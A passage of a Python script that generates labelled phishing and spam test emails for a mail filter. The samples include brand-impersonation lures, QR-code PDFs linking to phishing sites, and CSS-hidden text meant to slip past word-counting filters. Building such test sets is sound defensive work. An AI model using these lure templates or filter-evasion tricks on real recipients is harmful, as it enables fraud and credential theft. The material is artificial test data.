        "\"Kenji Sato (via Google Docs)\" <drive-shares-dm-noreply@google"
        ".com>", "Document shared with you: \"Q3 plan\"") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Kenji Sato shared a document with you.\nQ3 plan\nOpen: https://"
        "docs.google.com/document/d/1xQ7mPz9LkR2vT5w/edit?usp=sharing\n",
        "clean", "!url.anonymous_only")
    # A colleague's mail whose only links are the company's SharePoint,
    # named as the company's domain is, read without the organisation.
    write("en-195-clean-sharepoint-named-as-sender.eml", headers(
        "Kenji Sato <kenji.sato@northwind.example>", "Q3 plan") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Hi Taro, the plan is here: https://northwind.sharepoint.com/sites/"
        "plans/Q3.docx and my notes: https://northwind-my.sharepoint.com/"
        "personal/kenji/notes.docx\n",
        "clean", "url.free_hosting", "!url.anonymous_only")
    # A link to a private address (the office's printer) is nobody's
    # anonymous service.
    write("en-198-clean-private-ip-link.eml", headers(
        "IT Desk <it.desk@northwind.example>", "New printer") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "The new printer on the 3rd floor is set up: http://192.168.10.5/"
        "setup\n", "clean", "!url.anonymous_only")
    write("en-182-drive-link-from-freemail.eml", headers(
        "Accounts Desk <accounts.desk.2026@gmail.com>",
        "Remittance advice") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Please find the remittance advice here: https://docs.google.com/"
        "document/d/1xQ7mPz9LkR2vT5w/edit?usp=sharing\n",
        "potential", "url.anonymous_only", "url.free_hosting")

    # A mailing service's click tracker that names the shown domain as
    # its destination tells the truth; one that goes elsewhere does not.
    write("en-183-clean-tracker-to-shown.eml", headers(
        "Lumen Newsletter <newsletter@lumen-data.example>",
        "Lumen Insights: November") +
        "Content-Type: text/html; charset=utf-8\n\n"
        '<html><body><p>Hi Taro, this month\'s insights are online.</p>'
        '<p><a href="https://mailer.user.com/emails/c/Z4B6WE/?to=https%3A'
        '%2F%2Flumen-data.example%2Finsights%3Futm_source%3Dnl">lumen-'
        "data.example</a></p></body></html>\n",
        "clean", "!url.text_mismatch")
    write("en-184-tracker-elsewhere.eml", headers(
        "Lumen Newsletter <newsletter@lumen-data.example>",
        "Lumen Insights: November") +
        "Content-Type: text/html; charset=utf-8\n\n"
        '<html><body><p>Hi Taro, this month\'s insights are online.</p>'
        '<p><a href="https://mailer.user.com/emails/c/Z4B6WE/?to=https%3A'
        '%2F%2Flumen-insights-login.example%2F">lumen-data.example</a>'
        "</p></body></html>\n",
        "clean", "url.text_mismatch")

    # The romance scam's opening in its own words, an address to write
    # to instead of a link.
    write("en-185-romance-opener.eml", headers(
        "Darya <darya@greetings-daily.example>",
        "Good morning! How have you been?") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Hi! How is everything? I am a sincere girl and I am looking for "
        "love. I can send you my photos. Write to me at "
        "darya.sunny.2026@gmail.com\nHave a nice day :)\n",
        "potential", "content.adult")

    # The brand's own help and terms around a button that goes to the
    # phisher: the button is the link the mail is for.
    write("en-186-brand-button-elsewhere.eml", headers(
        "\"MetaMask\" <support@wallet-notices-desk.example>",
        "Action required") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>Hi, our system shows that your wallet has not yet "
        "been checked. Please do it before 24 September.</p>"
        '<p><a href="https://wallet-check-center.example/start">Verify '
        'now</a></p><p><a href="https://support.metamask.io/">Help</a> | '
        '<a href="https://metamask.io/terms-of-use/">Terms</a></p>'
        "</body></html>\n",
        "threat", "sender.display_brand", "sender.brand_links_elsewhere")
    # Another page named in passing, not the button, is no such sign.
    write("en-187-brand-other-link-not-button.eml", headers(
        "\"MetaMask\" <support@wallet-notices-desk.example>",
        "Our new release") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>Version 12 is out.</p><p><a href=\"https://"
        "metamask.io/download/\">Get it now</a></p><p>Read what the "
        'press said: <a href="https://www.techdaily.example/metamask-12">'
        'the review at Tech Daily</a></p><p><a href="https://support.'
        'metamask.io/">Help</a></p></body></html>\n',
        "potential", "sender.display_brand", "!sender.brand_links_elsewhere")

    # A prize in a brand's name, the brand named at the top, the links
    # going elsewhere: two words of the prize are enough then.
    write("en-188-brand-prize-elsewhere.eml", headers(
        "Supermarket Team <newsletter@weekly-deals-mail.example>",
        "Your free Lidl voucher") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><h1>Win a 500 EUR Lidl voucher</h1><p>Sign up now; it "
        'takes only a few seconds.</p><p><a href="https://deal-entry-'
        'portal.example/r/81723">Join now</a></p></body></html>\n',
        "threat", "content.brand_links_elsewhere", "content.brand_subject")
    write("en-189-clean-brand-own-prize.eml", headers(
        "Lidl <newsletter@lidl.de>", "Your free Lidl voucher") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><h1>Win a 500 EUR Lidl voucher</h1><p>Sign up now; it "
        'takes only a few seconds.</p><p><a href="https://www.lidl.de/'
        'gewinnspiel">Join now</a></p></body></html>\n',
        "clean", "!content.brand_links_elsewhere")

    # A brand's service writes from a host under its free mail domain,
    # where nobody has a mailbox; the free mail itself is anyone's.
    write("en-190-clean-brand-service-host.eml", headers(
        "\"Yahoo! News\" <news-story@reply.yahoo.com>",
        "Yahoo! News Story - Storm reaches the coast") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Kenji Sato has sent you a news article.\nStorm reaches the coast"
        "\nhttps://news.yahoo.com/storm-reaches-coast-091200.html\n",
        "clean", "!content.brand_subject")
    write("en-191-brand-subject-freemail.eml", headers(
        "Account Desk <account.desk.2026@yahoo.com>",
        "Yahoo account closure notice") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Your mailbox will be closed today. Reply with your details to "
        "keep it.\n",
        "clean", "content.brand_subject")

    # Brazil's betting platforms: the game and the offer, no English word.
    write("pt-07-betting-platform.eml", headers(
        "Plataforma VIP <vip@jogos-premios.example>",
        "Nova plataforma pagando agora") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "A plataforma que mais paga! Jogue Fortune Tiger com rodadas "
        "grátis e bônus de cadastro. Depósito mínimo de R$ 1.\n"
        "https://jogos-premios.example/cadastro\n",
        "potential", "content.gambling")

    # Brazil's banks and public bodies by the names their warnings give.
    write("pt-08-brand-banco-inter.eml", headers(
        "Banco Inter <aviso@seguranca-conta-cliente.example>",
        "Seu acesso foi bloqueado") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Identificamos um acesso incomum. Regularize em "
        "https://regularizar-acesso.example/inter\n",
        "threat", "sender.display_brand", "sender.brand_links_elsewhere")
    write("pt-09-brand-detran.eml", headers(
        "DETRAN-SP <notificacao@multas-aviso-online.example>",
        "Notificação de multa") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Consta uma multa de trânsito no seu CPF. Consulte em "
        "https://consulta-multas-online.example/\n",
        "threat", "sender.display_brand", "sender.brand_links_elsewhere")
    write("pt-10-clean-detran-own.eml", headers(
        "DETRAN-SP <naoresponda@detran.sp.gov.br>",
        "Seu agendamento foi confirmado") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Seu agendamento para a vistoria foi confirmado. Detalhes em "
        "https://www.detran.sp.gov.br/agendamento\n",
        "clean", "!sender.display_brand")

    # The survey and reward scam in a shop's name.
    write("en-192-brand-survey-walgreens.eml", headers(
        "Walgreens Rewards <survey@customer-feedback-center.example>",
        "Your reward is waiting") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Answer 4 questions about your last visit and get a $90 reward.\n"
        "https://feedback-reward-center.example/start\n",
        "threat", "sender.display_brand", "sender.brand_links_elsewhere")
    # Words a brand's name is one letter from, and a surname, are no
    # claim: "Human" is not Humana, "Trust" not Truist, "Direct" not
    # DirecTV, "Phillips" not Philips.
    write("en-193-clean-brand-near-words.eml", headers(
        "Human Resources Trust Direct Team <hr.trust@contoso.com>",
        "Benefits enrolment") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Hi Taro, enrolment for next year's benefits opens on Monday. "
        "Questions go to Jane Phillips.\nhttps://benefits.example/enrol\n",
        "clean", "!sender.display_brand")

    write("en-194-clean-words-near-brands.eml", headers(
        "Americans United <news@au-example.org>", "Our newsletter") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "This month: https://au-example.org/news\n", "clean",
        "!sender.display_brand")
    write("pt-11-clean-words-near-brands.eml", headers(
        "Decola Conectar Consultoria <contato@decola-conectar.example>",
        "Convite para o evento") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Olá Taro, sabes que o evento é amanhã? "
        "https://decola-conectar.example/evento\n", "clean",
        "!sender.display_brand")

    # Europe's brands by the names their national warnings give.
    write("en-196-brand-colissimo.eml", headers(
        "Colissimo <suivi@colis-livraison-info.example>",
        "Votre colis est en attente") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Votre colis n'a pas pu être livré. Reprogrammez la livraison : "
        "https://reprogrammer-colis.example/fr\n",
        "threat", "sender.display_brand", "sender.brand_links_elsewhere")
    write("en-197-brand-belastingdienst.eml", headers(
        "Belastingdienst <teruggave@belasting-info-nl.example>",
        "Uw teruggave staat klaar") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "U heeft recht op een teruggave. Vraag deze aan via "
        "https://teruggave-aanvragen.example/nl\n",
        "threat", "sender.display_brand", "sender.brand_links_elsewhere")

    # A first name one letter from a brand's (Ester, ELSTER).
    write("pt-12-clean-first-name-near-brand.eml", headers(
        "Ester Souza <ester.souza@ribeiro-adv.example>", "Reunião") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Oi Taro, a pauta está em https://ribeiro-adv.example/agenda\n",
        "clean", "!sender.display_brand")

    # Points about to expire, and a tax return "in the fine mesh".
    write("pt-13-points-expire.eml", headers(
        "Clube de Vantagens <avisos@clube-vantagens-online.example>",
        "Seus pontos expiram hoje") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Seus pontos expiram hoje! Resgate seus pontos agora em "
        "https://resgate-pontos-agora.example/\n",
        "potential", "content.prize")
    write("pt-14-malha-fina.eml", headers(
        "Declaração IRPF <aviso@declaracao-irpf-online.example>",
        "Sua declaração caiu na malha fina") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Sua declaração do imposto de renda caiu na malha fina. Emita o "
        "DARF em https://emitir-darf-online.example/\n",
        "clean", "content.invoice_lure")

    # The same two, in English.
    write("en-199-service-disabled.eml", headers(
        "Service Center <info@service-center-notice.example>",
        "[Important] Notice of service suspension") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Your service has been disabled. To keep using it, log in via the "
        "link below and complete the procedure.\n"
        "https://service-center-notice.example/login\n",
        "potential", "content.credential_urgent")
    write("en-200-tax-seizure.eml", headers(
        "Tax Office <notice@tax-office-notice.example>",
        "Final notice of seizure") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Notice of unpaid tax. Payment of your income tax has not been "
        "confirmed. If payment is not made today, your assets will be "
        "seized.\nhttps://tax-office-notice.example/pay\n",
        "threat", "content.legal_threat", "content.invoice_lure")

    # The payroll portal lure: the reader's own direct deposit to update
    # (the diversion fraud, "change my direct deposit", is content.
    # payment_change).
    write("en-201-payroll-portal.eml", headers(
        "HR Department <hr@payroll-portal-notice.example>",
        "Action required: update your direct deposit") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Payroll is moving to a new system. Update your direct deposit "
        "details before Friday to avoid a delay in your salary: "
        "https://payroll-portal-notice.example/update\n",
        "threat", "content.credential_urgent", "sender.org_name_mismatch")
    # A "trusted sender" banner written into the mail, where a mail
    # program would show its own: the text under it says little.
    write("en-202-fake-trusted-banner.eml", headers(
        "Mail Delivery <notice@held-mail-center.example>",
        "3 incoming messages are waiting") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><div style=\"background:#dff6dd;padding:6px\">"
        "&#10004; This message is from a trusted sender.</div>"
        "<p>Hello, 3 incoming messages are waiting for you.</p>"
        "<p><a href=\"https://held-mail-center.example/inbox\">"
        "See them</a></p></body></html>\n",
        "potential", "content.fake_safety_notice")
    # The same words far down an IT newsletter, explaining what Outlook
    # shows, are no banner.
    write("en-203-clean-trusted-sender-advice.eml", headers(
        "IT Service Desk <servicedesk@mapleton-it.example>",
        "IT news for December") +
        "Content-Type: text/plain; charset=utf-8\n\n" +
        ("The service desk will be closed on 24 and 25 December; urgent "
         "calls go to the on-call engineer as usual. The new printers on "
         "the second floor are now installed and take badges. ") * 6 +
        "\nA reminder: Outlook itself tells you when mail comes from a "
        "trusted sender or from outside; a notice written inside a "
        "message proves nothing.\n"
        "https://mapleton-it.example/news\n",
        "clean", "!content.fake_safety_notice")
    # A helpdesk's answer that a mail is safe is a clause of its own
    # sentence, not a banner.
    write("en-213-clean-helpdesk-safe.eml", headers(
        "IT Help <help@mapleton-it.example>",
        "Re: is this invoice real?") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Hi Jane, I checked it: this email is safe, you can open the "
        "invoice.\nhttps://mapleton-it.example/tickets/4411\n",
        "clean", "!content.fake_safety_notice")
    # A publisher's newsletter copied whole under another sender, one
    # link of the spammer's put at its top.
    arts = "".join(
        '<p><a href="https://www.dailyfilmnews.example/%s">%s</a></p>'
        % (a, t) for a, t in (
            ("festival-line-up", "The festival line-up is out"),
            ("box-office", "Box office: a quiet weekend"),
            ("interview-director", "An interview with the director"),
            ("reviews", "This week's reviews"),
            ("unsubscribe", "Unsubscribe")))
    write("en-214-copied-newsletter.eml", headers(
        "PowerFlow <jurni@powerflow-deals.example>",
        "The secret to savings!") +
        "Content-Type: text/html; charset=utf-8\n\n"
        '<html><body><p><a href="https://cut-your-bills.example/go">'
        '<img src="https://cut-your-bills.example/b.png" alt="Save now">'
        "</a></p><h1>Daily Film News</h1>" + arts +
        "<p>This email was sent by Daily Film News.</p></body></html>\n",
        "potential", "url.copied_newsletter")
    # The publisher's own letter through its mailing service: its
    # "view online" page and trackers are the service's.
    trk = "".join(
        '<p><a href="https://dfn-media.us1.list-manage.com/track/click'
        '?u=1&amp;id=%d">%s</a></p>' % (i, t) for i, t in enumerate((
            "The festival line-up is out", "Box office: a quiet weekend",
            "An interview with the director", "This week's reviews",
            "Unsubscribe")))
    write("en-215-clean-newsletter-mailer.eml", headers(
        "Daily Film News <news@dailyfilmnews.example>",
        "This week in film") +
        "Content-Type: text/html; charset=utf-8\n\n"
        '<html><body><p><a href="https://mailchi.mp/dailyfilmnews/week">'
        "View this email in your browser</a></p>" + trk +
        "</body></html>\n", "clean", "!url.copied_newsletter")
    # A letter sent from the company's mail domain, named as its site.
    write("en-216-clean-newsletter-mail-domain.eml", headers(
        "Daily Film News <news@email-dailyfilmnews.example>",
        "This week in film") +
        "Content-Type: text/html; charset=utf-8\n\n"
        '<html><body><p><a href="https://view.letterpress-archive.example/'
        'w/123">View online</a></p>' + arts +
        "</body></html>\n", "clean", "!url.copied_newsletter")
    # Lures from public warnings that the corpus does not hold: a
    # business page "reported" and to be deleted unless its owner
    # appeals, an unpaid toll, and a domain "renewal" that sells a
    # search engine listing.
    write("en-217-page-violation.eml", headers(
        "Page Support <support@pages-review-center.example>",
        "Your page has been scheduled for deletion") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Your page violated our community standards and has been scheduled "
        "for deletion. If you think this is a mistake, submit an appeal "
        "within 24 hours: https://pages-review-center.example/appeal\n",
        "potential", "content.credential_urgent")
    write("en-218-unpaid-toll.eml", headers(
        "E-ZPass <billing@ezpass-tollpay.example>",
        "Unpaid toll: pay today to avoid a fee") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "We have an unpaid toll of $4.15 on record for your vehicle. Pay "
        "the outstanding toll today to avoid a $50 late fee: "
        "https://ezpass-tollpay.example/pay\n",
        "threat", "sender.display_brand", "content.invoice_lure")
    write("en-219-domain-seo-renewal.eml", headers(
        "Domain Services <notice@domain-registry-services.example>",
        "Domain expiration notice: mapleton-it.example") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Final notice. Domain name expiration: the search engine submission "
        "for mapleton-it.example expires today. Pay now: "
        "https://domain-registry-services.example/renew\n",
        "potential", "content.invoice_lure", "content.urgency")
    write("en-220-salary-adjustment.eml", headers(
        "HR Department <hr@staff-letters-portal.example>",
        "Q4 salary adjustment letter") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Your salary adjustment letter is ready. Sign in to your account "
        "to review it: https://staff-letters-portal.example/letter\n",
        "threat", "content.credential_request", "sender.org_name_mismatch")
    write("en-221-kyc-wallet.eml", headers(
        "Wallet Compliance <compliance@wallet-kyc-desk.example>",
        "Action needed: KYC verification") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Our records show your wallet has not been KYC updated. Complete "
        "your KYC verification here: "
        "https://wallet-kyc-desk.example/kyc\n",
        "potential", "content.credential_urgent")
    # An issue opened on the reader's repository, so GitHub itself
    # mails it: the link to a "scanner" named after GitHub is not
    # GitHub's (the fake vulnerability alerts of 2024-2025).
    write("en-222-github-issue-scanner.eml", headers(
        "aprigel7 <notifications@github.com>",
        "[acme/tool] IMPORTANT! Security Vulnerability Detected in your "
        "Repository (Issue #2)") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Hey there! We have detected a security vulnerability in your "
        "repository. Please contact us at https://github-scanner.example "
        "to get more information on how to fix this issue.\n\n"
        "-- \nReply to this email directly or view it on GitHub:\n"
        "https://github.com/acme/tool/issues/2\n",
        "potential", "url.brand_in_host")
    # A brand whose name is a word ("Ledger") is claimed by a name that
    # opens with it and adds a service word; inside another name ("General
    # Ledger News", an accounting letter) it is that name's word.
    write("en-204-weak-brand-news.eml", headers(
        "Ledger News <news@wallet-bulletin.example>",
        "Upgrade your Ledger") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Ledger suffered a data breach. Your funds could be at risk: "
        "upgrade your device to the latest version now.\n"
        "https://wallet-bulletin.example/upgrade\n",
        "threat", "sender.display_brand", "sender.brand_links_elsewhere")
    write("en-205-clean-general-ledger-news.eml", headers(
        "General Ledger News <news@closing-books.example>",
        "Month-end close: five habits") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "This month: reconciling accounts before the close, accruals "
        "that auditors question, and a checklist for the year end.\n"
        "https://closing-books.example/issue/12\n",
        "clean", "!sender.display_brand")
    # Two service words and a sign glued on before the weak brand.
    write("en-210-weak-brand-after-service.eml", headers(
        "\U0001F381Team Support Lido <promo@lido-gifts.example>",
        "Your voucher") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Claim your free gift card today.\n"
        "https://lido-gifts.example/claim\n",
        "threat", "sender.display_brand")
    # Signs of three bytes before the name and a mark glued after it.
    write("en-211-weak-brand-signs.eml", headers(
        "\u26a0\ufe0f Ledger\u2122 Support <help@wallet-care.example>",
        "Your device needs an update") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Update your device firmware today.\n"
        "https://wallet-care.example/update\n",
        "threat", "sender.display_brand")
    # A casino's "play for free, win for real": real money is the
    # betting word when no game is named.
    write("en-206-casino-win-for-real.eml", headers(
        "Lucky Reels <offers@lucky-reels.example>",
        "No deposit required tonight") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "No deposit required. Play for free and win for real money "
        "tonight!\nhttps://lucky-reels.example/join\n",
        "potential", "content.gambling")
    # A bank's savings bonus on every deposit is no casino.
    write("en-207-clean-savings-bonus.eml", headers(
        "Harbour Savings <news@harbour-savings.example>",
        "Your savings plan this winter") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "This winter our saver plan pays a 1% bonus on every deposit you "
        "make before 31 January.\nhttps://harbour-savings.example/saver\n",
        "clean", "!content.gambling")
    # "No deposit" is a telling phrase and "deposit" a word of it: a
    # letting agent's flat without a deposit is no casino.
    write("en-212-clean-no-deposit-flat.eml", headers(
        "Parkside Lettings <lettings@parkside-lettings.example>",
        "Two-bedroom flat, no deposit required") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "The flat on Mill Road is free from January, no deposit required.\n"
        "https://parkside-lettings.example/mill-road\n",
        "clean", "!content.gambling")
    # A brand's name after a dash ends the display name as its signature.
    write("en-208-brand-after-dash.eml", headers(
        "Giveaway Desk - CVS <promo@survey-gifts.example>",
        "Your pharmacy survey") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Take part in our marketing survey and get a $90 promo reward.\n"
        "https://survey-gifts.example/start\n",
        "threat", "sender.display_brand", "sender.brand_links_elsewhere")
    write("en-209-clean-name-after-dash.eml", headers(
        "Orders - Big Apple Bagels <orders@bigapplebagels.example>",
        "Your order is ready") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Your order of a dozen bagels is ready for pick-up.\n"
        "https://bigapplebagels.example/orders\n",
        "clean", "!sender.display_brand")
    # A betting "platform" that names no game: a first-deposit bonus
    # (a telling phrase) and another bonus word are enough.
    write("pt-15-plataforma-bonus.eml", headers(
        "lucky <lucky188@plataforma-nova.example>",
        "Vamos para a nova plataforma") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Novos cadastros pagam mais! Bônus de primeiro depósito. Receba "
        "bônus todos os dias.\nhttps://plataforma-nova.example/entrar\n",
        "potential", "content.gambling")
    # The banks' "security module" and token, and the parcel "taxed" at
    # customs, as the Febraban and Correios alerts describe them.
    write("pt-16-token-expirado.eml", headers(
        "Central de Segurança <aviso@central-token-seguro.example>",
        "Seu token expirou") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Identificamos que seu token expirado impede o acesso. Atualize o "
        "módulo de segurança hoje: "
        "https://central-token-seguro.example/modulo\n",
        "potential", "content.credential_request")
    write("pt-17-encomenda-taxada.eml", headers(
        "Rastreio <rastreio@entrega-rapida-br.example>",
        "Aviso de taxação") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Encomenda taxada, aguardando pagamento da taxa para liberação: "
        "https://entrega-rapida-br.example/pagar\n",
        "clean", "content.delivery_lure")
    # A PDF whose page is a QR code (the "quishing" PDF): the image
    # Flate-compressed with PNG predictors, and the same as a JPEG.
    def pdf_with_image(dict_extra, data, w, h):
        body = (b"%%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> "
                b"endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >>"
                b" endobj\n3 0 obj << /Type /Page /Parent 2 0 R /MediaBox "
                b"[0 0 612 792] /Resources << /XObject << /Im1 4 0 R >> >> "
                b"/Contents 5 0 R >> endobj\n4 0 obj << /Type /XObject "
                b"/Subtype /Image /Width %d /Height %d " % (w, h) +
                dict_extra + b" /Length %d >>\nstream\n" % len(data) +
                data + b"\nendstream\nendobj\n")
        cs = b"q 300 0 0 300 156 300 cm /Im1 Do Q"
        body += (b"5 0 obj << /Length %d >>\nstream\n" % len(cs) + cs +
                 b"\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%EOF\n")
        return body

    rows = qr_grey("https://mfa-renew.mailbox-check.top/q?id=7")
    w, h = len(rows[0]), len(rows)
    # PNG predictors: "Up" on every row but the first ("Sub").
    filt = bytearray()
    prev = bytes(w)
    for k, r in enumerate(rows):
        if k == 0:
            filt += b"\x01" + bytes((r[i] - (r[i - 1] if i else 0)) & 255
                                    for i in range(w))
        else:
            filt += b"\x02" + bytes((r[i] - prev[i]) & 255
                                    for i in range(w))
        prev = r
    pdf_flate = pdf_with_image(
        b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode "
        b"/DecodeParms << /Predictor 15 /Colors 1 /Columns %d >>" % w,
        zlib.compress(bytes(filt)), w, h)
    pgm = b"P5 %d %d 255\n" % (w, h) + b"".join(rows)
    jpg = subprocess.run(["cjpeg", "-quality", "95", "-grayscale"],
                         input=pgm, stdout=subprocess.PIPE, check=True).stdout
    pdf_dct = pdf_with_image(
        b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode",
        jpg, w, h)
    # The IT desk's "password notice" with a PDF whose only content is
    # a QR code, one way or another.
    for fname, pdfb, sub in (
            ("en-223-pdf-qr-flate.eml", pdf_flate, "Notice"),
            ("en-224-pdf-qr-jpeg.eml", pdf_dct, "Reminder")):
        pdf_notice(fname, sub, pdfb)
    # The QR code drawn with the page's vector paths, no image in the
    # file: a filled square to each dark module, as PHP's TCPDF draws one
    # (negative heights, a Flate-compressed page), and as runs of modules
    # under a transformation that turns the page a quarter (reportlab
    # and HTML-to-PDF converters), uncompressed.
    def qr_squares(url):
        m = qr_matrix(url, 0)
        ops = [b"q", b"BT /F1 12 Tf 72 760 Td (Scan the code to keep your "
               b"mailbox) Tj ET", b"0.000 0.000 0.000 rg"]
        for y, row in enumerate(m):
            for x, v in enumerate(row):
                if v:
                    ops.append(b"%.2f %.2f 2.83 -2.83 re f" %
                               (100 + x * 2.83, 700 - y * 2.83))
        return b"\n".join(ops + [b"Q"])

    def qr_runs(url):
        m = qr_matrix(url, 0)
        ops = [b"q 0 3 -3 0 400 300 cm", b"0.1 0.1 0.1 rg"]
        ops += [b"%d %d %d 1 re" % (x, len(m) - 1 - y, n)
                for y, x, n in dark_runs(m)]
        return b"\n".join(ops + [b"f Q"])

    PDFDRAW_SEEDS.extend([
        qr_squares("https://mfa-renew.mailbox-check.top/q?id=11"),
        qr_runs("https://mfa-renew.mailbox-check.top/q?id=12")])
    for fname, pdfb, sub in (
            ("en-248-pdf-qr-vector.eml", pdf_page(qr_squares(
                "https://mfa-renew.mailbox-check.top/q?id=11"), True),
             "Notice"),
            ("en-249-pdf-qr-vector-turned.eml", pdf_page(qr_runs(
                "https://mfa-renew.mailbox-check.top/q?id=12"), False),
             "Reminder")):
        pdf_notice(fname, sub, pdfb)
    # A dense code (version 20 in an inch) under a white page background
    # filled inside q/Q (the black of the modules is the default one),
    # with a module-sized square far off the code.
    dense = qr_matrix("https://mfa-renew.mailbox-check.top/q?id=13", 0, 20)
    mu = 72.0 / len(dense)
    ops = [b"q 1 g 0 0 612 792 re f Q"]
    for y, row in enumerate(dense):
        for x, v in enumerate(row):
            if v:
                ops.append(b"%.3f %.3f %.3f %.3f re f" %
                           (100 + x * mu, 700 - y * mu, mu, -mu))
    ops.append(b"500 80 %.3f %.3f re f" % (mu, mu))
    PDFDRAW_SEEDS.append(b"\n".join(ops))
    pdf_notice("en-252-pdf-qr-vector-dense.eml", "Final notice",
               pdf_page(b"\n".join(ops), True))
    # Text hidden by a style sheet's rule, not by the element's own
    # style: a class set to display:none, and a tag (<u>) made a box of
    # no width that clips what it holds, each hiding a pasted story
    # that sways word-counting filters.
    story = ("Our journey then took us to the national park, where we "
             "spent several days hiking through landscapes of waterfalls, "
             "forests and granite cliffs, and the city was full of life, "
             "with colourful architecture and good food. ") * 4
    write("en-253-css-class-hidden.eml", headers(
        "Wallet Support <support@wallet-verify.example>",
        "Action required on your wallet") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><head><style>\n.ft { display: none }\n</style></head><body>"
        "<p>Your wallet must be verified today.</p><p><a href=\""
        "https://wallet-verify.example/v\">Verify</a></p>"
        '<div class="ft">' + story + "</div></body></html>\n",
        "potential", "html.hidden_text_stuffing")
    write("en-254-css-tag-hidden.eml", headers(
        "Wallet Support <support@wallet-verify.example>",
        "Action required on your wallet") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><head><style>\nu { display: inline-block; width: 0; "
        "overflow: hidden; white-space: nowrap }\n</style></head><body>"
        "<p>Your wallet must be verified today.</p><p><a href=\""
        "https://wallet-verify.example/v\">Ve<u>" + story + "</u>rify</a>"
        "</p></body></html>\n", "potential", "html.hidden_text_stuffing")
    # ... and ways around the reading of rules: the rule inside an
    # @media block for every screen, and !important beating the element's
    # own display.
    write("en-257-css-hidden-evasions.eml", headers(
        "Wallet Support <support@wallet-verify.example>",
        "Action required on your wallet") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><head><style>\n@media all { .ft { display: none } }\n"
        ".gt { visibility: hidden !important }\n</style></head><body>"
        "<p>Your wallet must be verified today.</p><p><a href=\""
        "https://wallet-verify.example/v\">Verify</a></p>"
        '<div class="ft">' + story + '</div><div class="gt" style="'
        'visibility:visible">' + story + "</div></body></html>\n",
        "potential", "html.hidden_text_stuffing")
    # A responsive newsletter: its mobile copy hidden by a rule and shown
    # again on small screens; its button's text hidden from Outlook's
    # desktop program only (mso-hide:all), which draws its own button.
    para = ("This month the team shipped the new reporting pages and "
            "fixed the slow exports many of you wrote to us about. ")
    write("en-255-clean-responsive-newsletter.eml", headers(
        "Fabrikam News <news@fabrikam.com>", "What shipped in November") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><head><style>\n.mobile { display: none; max-height: 0; "
        "overflow: hidden }\n@media only screen and (max-width: 480px) "
        "{\n  .mobile { display: block !important; max-height: none "
        "!important }\n  .desktop { display: none !important }\n}\n"
        "</style></head><body><div class=\"desktop\"><p>" + para * 3 +
        '</p></div><div class="mobile"><p>' + para * 3 + "</p></div>"
        '<p><a href="https://www.fabrikam.com/news/2026-11" style='
        '"background:#0b5cad;color:#ffffff;padding:10px 20px;'
        'mso-hide:all">Read the whole letter on our site, with the '
        "screenshots of every new page and the list of fixes</a></p>"
        "</body></html>\n", "clean", "!html.hidden_text",
        "!html.hidden_text_stuffing")
    # The same newsletter as templates write it: a comment before the
    # @media block, the mobile copy shown again by an attribute selector
    # and by a <style media="..."> sheet, a sheet for Outlook's desktop
    # program only (<!--[if mso]>), a picture caption faded in on small
    # screens, a rule cut by a comment holding a brace: nothing hidden.
    write("en-256-clean-responsive-templates.eml", headers(
        "Fabrikam News <news@fabrikam.com>", "What shipped in November") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><head><!--[if mso]><style>.interactive { display: none "
        "!important }</style><![endif]--><style>\n<!--\n.mobile { "
        "display: none; max-height: 0; overflow: hidden }\n.tablet { "
